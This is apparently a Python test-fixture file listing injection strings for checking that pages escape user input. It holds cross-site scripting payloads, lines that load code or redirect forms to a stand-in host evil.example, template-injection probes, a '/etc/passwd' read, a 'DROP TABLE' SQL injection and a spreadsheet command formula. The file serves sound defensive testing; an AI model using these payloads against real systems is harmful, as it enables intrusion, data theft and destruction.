"""Texts that somebody may type into any field. Each is one line; MARK tells that a page took one for markup."""

from __future__ import annotations

MARK = "attacked"

PAYLOADS = (
    # --- elements and handlers ---
    "<attacked>1</attacked>",
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    "<img src=//evil.example/pixel.png>",
    "<svg onload=alert(4)>",
    "<svg><script>alert(5)</script></svg>",
    "<svg><animate onbegin=alert(6) attributeName=x></svg>",
    "<svg><a xlink:href='javascript:alert(7)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(8)>",
    "<iframe srcdoc='<script>alert(9)</script>'></iframe>",
    "<object data=javascript:alert(10)></object>",
    "<form action=https://evil.example><button>Continue</button></form>",
    "<a href=javascript:alert(11)>click</a>",
    "<a href='java\tscript:alert(12)'>click</a>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<details open ontoggle=alert(13)>",
    "<input autofocus onfocus=alert(14)>",
    "<template><attacked></template>",
    # --- ways out of where a value stands ---
    '"><attacked>',
    "'><attacked>",
    '" autofocus onfocus=alert(15) x="',
    "' onmouseover=alert(16) x='",
    "--><attacked><!--",
    "]]><attacked>",
    "</title><attacked>",
    "</textarea><attacked>",
    "</option></select><attacked>",
    '\\"><attacked>\\u003cattacked\\u003e',
    "&lt;attacked&gt; &#60;attacked&#62; &amp;lt;attacked",
    "＜attacked＞ ‹attacked› \u2028alert(17)",
    # --- other languages a text may be taken for ---
    "{{ 7|add:7 }}{% now 'Y' %}{# x #}{{ request.META }}",
    "${7*7} #{7*7} <%= 7*7 %> [[7*7]]",
    "%(by)s %s %d %n {0} {by} %%",
    '#eval("1+1") #read("/etc/passwd") #panic("x")',
    "$ sum_(i=0)^n $ *bold* _slanted_ = heading @label <label> `raw` \\ // /* */",
    "'; DROP TABLE work_workorder; -- \" OR 1=1",
    "=cmd|'/c calc'!A1",
    # --- letters that do something ---
    "safe\u202egpj.exe \u2066hidden\u2069 \u200bwide\u200d",
    "Z\u0351\u0343a\u0300\u0316lgo Ω≈ç√ 👩\u200d🔧 田中さん",
    "hx-on:click=alert(18) hx-get=https://evil.example",
)
# What is usual in a name, at once: names are shown everywhere, also in attributes.
NAME = "Jan \"><attacked>'<img src=x onerror=alert(1)>{{ 7|add:7 }}%(by)s#eval(1)"
SHOP = "Shop & Söhne '\"><attacked>{% now 'Y' %}"
